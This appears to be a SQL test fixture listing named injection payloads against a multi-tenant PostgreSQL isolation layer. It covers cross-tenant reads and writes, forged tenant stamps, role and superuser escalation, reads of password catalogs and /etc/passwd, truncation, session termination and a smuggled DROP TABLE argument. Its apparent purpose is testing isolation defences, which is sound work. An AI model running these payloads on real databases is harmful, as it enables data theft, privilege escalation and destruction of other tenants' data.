-- What an injection can make of one statement. $there is the victim's schema, quoted; $there_bare
-- without quotes; $victim its id; $stamp and $capability what one of its transactions carried;
-- $lock the key of its lock; $login its login; $here the attacker's schema. What is called before a
-- scan stands in one row with it: over no rows nothing would be called at all.

-- name: scan
SELECT * FROM $there.artist
-- name: scan_by_tenant
SELECT a.* FROM $there.artist AS a WHERE tenant_id = '$victim'
-- name: union_of_everything
SELECT name FROM $here.artist UNION ALL SELECT name FROM $there.artist UNION ALL SELECT name FROM $there.genre
-- name: set_the_articles_setting_and_scan
SELECT set_config('app.tenant', '$victim', true), set_config('app.tenant_id', '$victim', true), set_config('app.current_tenant', '$victim', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: forge_the_stamp_from_ones_own
SELECT set_config('gate.stamp', '$victim' || substr(current_setting('gate.stamp'), 37), true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: forge_the_stamp_and_scan_later
WITH forged AS MATERIALIZED (SELECT set_config('gate.stamp', '$victim' || substr(current_setting('gate.stamp'), 37), true)) SELECT a.* FROM forged, $there.artist AS a
-- name: carry_the_victims_stamp_over
WITH carried AS MATERIALIZED (SELECT set_config('gate.stamp', '$stamp', true)) SELECT a.* FROM carried, LATERAL (SELECT * FROM $there.artist) AS a
-- name: carry_the_stamp_over_for_the_session
SELECT set_config('gate.stamp', '$stamp', false)
-- name: empty_the_stamp_and_scan
SELECT set_config('gate.stamp', '', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: claim_the_victim_and_insert
WITH claimed AS MATERIALIZED (SELECT set_config('gate.stamp', '$victim' || substr(current_setting('gate.stamp'), 37), true)) INSERT INTO $there.artist (artist_id, name) SELECT 90001, 'pwned' FROM claimed
-- name: replay_a_capability
SELECT gate.enter('$capability'), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: replay_a_capability_first
WITH entered AS MATERIALIZED (SELECT gate.enter('$capability')) SELECT a.* FROM entered, LATERAL (SELECT * FROM $there.artist) AS a
-- name: replay_a_capability_inside
SELECT query_to_xml('SELECT gate.enter(''$capability''); SELECT * FROM $there.artist', true, false, '')
-- name: enter_as_the_platform
SELECT gate.enter('m' || substr('$capability', 2))
-- name: enter_with_nothing
SELECT gate.enter(NULL)
-- name: enter_with_nonsense
SELECT gate.enter(repeat('0', 129)), gate.enter(repeat('é', 129))
-- name: statistics_of_words
SELECT set_config('gate.stamp', '$stamp', true), word FROM ts_stat('SELECT to_tsvector(''simple'', name) FROM $there.artist')
-- name: words_with_the_articles_setting
SELECT set_config('app.tenant', '$victim', true), word FROM ts_stat('SELECT to_tsvector(''simple'', name) FROM $there.artist')
-- name: query_to_xml
SELECT query_to_xml('SELECT * FROM $there.artist', true, false, '')
-- name: table_to_xml
SELECT table_to_xml('$there.artist'::regclass, true, false, '')
-- name: schema_to_xml
SELECT schema_to_xml('$there_bare', true, false, '')
-- name: database_to_xml
SELECT database_to_xml(true, false, '')
-- name: cursor_to_xml
SELECT cursor_to_xml('kept', 100, true, false, '')
-- name: prepare_inside
SELECT word FROM ts_stat('PREPARE "__asyncpg_stmt_1__" AS SELECT 1')
-- name: set_role_inside
SELECT query_to_xml('SET ROLE stepwell_owner', true, false, '')
-- name: commit_inside
SELECT query_to_xml('COMMIT', true, false, ''), query_to_xml('BEGIN', true, false, '')
-- name: become_the_owner
SELECT set_config('role', 'stepwell_owner', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: become_the_gate
SELECT set_config('role', 'stepwell_gate', true), (SELECT string_agg(k::text, ' ') FROM gate.key AS k)
-- name: become_a_group
SELECT set_config('role', 'stepwell_rows', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: become_the_other_group
SELECT set_config('role', 'stepwell_login', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: become_the_victims_login
SELECT set_config('role', '$login', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: become_the_administrator
SELECT set_config('role', (SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1), true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: authorize_as_the_administrator
SELECT set_config('session_authorization', (SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1), true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: authorize_as_the_victims_login
SELECT set_config('session_authorization', '$login', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: switch_row_security_off
SELECT set_config('row_security', 'off', true), (SELECT string_agg(a::text, ' ') FROM $there.artist AS a)
-- name: switch_replication_on
SELECT set_config('session_replication_role', 'replica', true)
-- name: leak_by_division
SELECT * FROM $there.artist WHERE 1 / (CASE WHEN tenant_id = '$victim' THEN 0 ELSE 1 END) = 1
-- name: leak_by_cast
SELECT name::integer FROM $there.artist
-- name: leak_by_cast_in_a_filter
SELECT count(*) FROM $there.artist WHERE (name || '')::integer = 1 AND tenant_id = '$victim'
-- name: update_everything
UPDATE $there.artist SET name = 'pwned' RETURNING *
-- name: update_the_victim
UPDATE $there.artist SET name = 'pwned' WHERE tenant_id = '$victim' RETURNING *
-- name: update_from_the_victim
UPDATE $here.artist AS mine SET name = theirs.name FROM $there.artist AS theirs WHERE theirs.tenant_id = '$victim' RETURNING mine.*
-- name: delete_the_victim
DELETE FROM $there.artist WHERE tenant_id = '$victim' RETURNING *
-- name: delete_using_the_victim
DELETE FROM $here.genre AS mine USING $there.artist AS theirs WHERE theirs.tenant_id = '$victim' RETURNING theirs.*
-- name: insert_for_the_victim
INSERT INTO $there.artist (tenant_id, artist_id, name) VALUES ('$victim', 90002, 'pwned')
-- name: upsert_for_the_victim
INSERT INTO $there.artist (tenant_id, artist_id, name) VALUES ('$victim', 1, 'pwned') ON CONFLICT (tenant_id, artist_id) DO UPDATE SET name = artist.name || ' pwned' RETURNING *
-- name: give_a_row_to_the_victim
UPDATE $here.artist SET tenant_id = '$victim'
-- name: merge_into_the_victim
MERGE INTO $there.artist AS t USING (SELECT 1) AS s ON t.tenant_id = '$victim' WHEN MATCHED THEN UPDATE SET name = 'pwned' WHEN NOT MATCHED THEN INSERT (tenant_id, artist_id, name) VALUES ('$victim', 90003, 'pwned')
-- name: write_in_a_subquery
WITH changed AS (DELETE FROM $there.artist RETURNING *) SELECT * FROM changed WHERE tenant_id = '$victim'
-- name: lock_the_victims_rows
SELECT * FROM $there.artist WHERE tenant_id = '$victim' FOR UPDATE
-- name: point_at_the_victims_row
INSERT INTO $here.album (album_id, title, artist_id) SELECT 90004, 'x', a.artist_id FROM $there.artist AS a WHERE a.tenant_id = '$victim'
-- name: truncate
TRUNCATE $there.artist CASCADE
-- name: read_the_keys
SELECT * FROM gate.key
-- name: read_the_homes
SELECT * FROM gate.home
-- name: read_the_counters
SELECT * FROM gate.counter
-- name: read_the_revisions
SELECT * FROM gate.revision
-- name: read_the_functions
SELECT proname, prosrc, proconfig FROM pg_proc WHERE pronamespace = 'gate'::regnamespace
-- name: read_the_passwords
SELECT * FROM pg_authid
-- name: read_the_shadow
SELECT * FROM pg_shadow
-- name: read_the_settings
SELECT name, setting, boot_val, reset_val FROM pg_settings
-- name: read_the_roles_settings
SELECT * FROM pg_db_role_setting
-- name: read_the_activity
SELECT query FROM pg_stat_activity
-- name: read_the_activity_by_function
SELECT pg_stat_get_backend_activity(n) FROM pg_stat_get_backend_idset() AS n
-- name: read_the_locks
SELECT * FROM pg_locks
-- name: read_the_prepared_statements
SELECT * FROM pg_prepared_statements
-- name: read_the_column_statistics
SELECT * FROM pg_stats WHERE tablename IN ('artist', 'genre', 'album')
-- name: read_the_raw_statistics
SELECT * FROM pg_statistic
-- name: read_the_extended_statistics
SELECT * FROM pg_stats_ext
-- name: read_the_large_objects
SELECT * FROM pg_largeobject
-- name: read_the_access_rules
SELECT * FROM pg_hba_file_rules
-- name: read_a_file
SELECT pg_read_file('postgresql.conf')
-- name: read_a_binary_file
SELECT pg_read_binary_file('PG_VERSION')
-- name: list_a_folder
SELECT pg_ls_dir('.'), pg_ls_logdir()
-- name: import_a_file
SELECT lo_import('/etc/passwd')
-- name: export_a_file
SELECT lo_export(1, 'pwned')
-- name: make_a_large_object
SELECT lo_create(0)
-- name: make_a_large_object_of_bytes
SELECT lo_from_bytea(0, 'kept'::bytea)
-- name: connect_back
SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(x integer)
-- name: next_of_the_victims_sequence
SELECT nextval('$there.artist_artist_id_seq')
-- name: set_the_victims_sequence
SELECT setval('$there.artist_artist_id_seq', 900000)
-- name: last_of_the_victims_sequence
SELECT last_value FROM $there.artist_artist_id_seq
-- name: last_of_every_sequence
SELECT sequencename, last_value FROM pg_sequences WHERE last_value IS NOT NULL AND schemaname <> '$here_bare'
-- name: next_id_of_anything
SELECT gate.next_id('artist''; DROP TABLE gate.key; --'), gate.next_id('key'), gate.next_id('')
-- name: spend_the_victims_ids
SELECT set_config('gate.stamp', '$stamp', true), gate.next_id('artist')
-- name: forge_a_block_of_ids
SELECT set_config('gate.ids_artist', '{1,9000,1000}', true), gate.next_id('artist')
-- name: continue_the_ids_of_a_secret
SELECT gate.continue_ids('key', 'inner_pad'), gate.continue_ids('artist', 'name')
-- name: continue_the_ids_of_another_schema
SELECT gate.continue_ids('$there_bare.artist', 'artist_id'), gate.continue_ids('../gate.home', 'epoch')
-- name: adopt_a_schema
SELECT gate.adopt('$there_bare', 'rows', current_user)
-- name: hold_the_victims_lock
SELECT pg_advisory_lock($lock)
-- name: try_the_victims_lock
SELECT pg_try_advisory_lock($lock), pg_try_advisory_lock_shared($lock)
-- name: end_other_sessions
SELECT pg_terminate_backend(n) FROM generate_series(1, 9) AS n
-- name: cancel_other_sessions
SELECT pg_cancel_backend(n) FROM generate_series(1, 9) AS n
-- name: two_statements
SELECT 1; SELECT * FROM $there.artist
-- name: a_comment_before_a_second_statement
SELECT 1 /* ; */ ; SELECT set_config('app.tenant', '$victim', false) --
-- name: end_the_transaction_in_a_block
DO 'BEGIN COMMIT; END'
-- name: reload_the_configuration
SELECT pg_reload_conf(), pg_rotate_logfile()
-- name: emit_and_export
SELECT pg_logical_emit_message(true, 'x', 'y'), pg_export_snapshot()
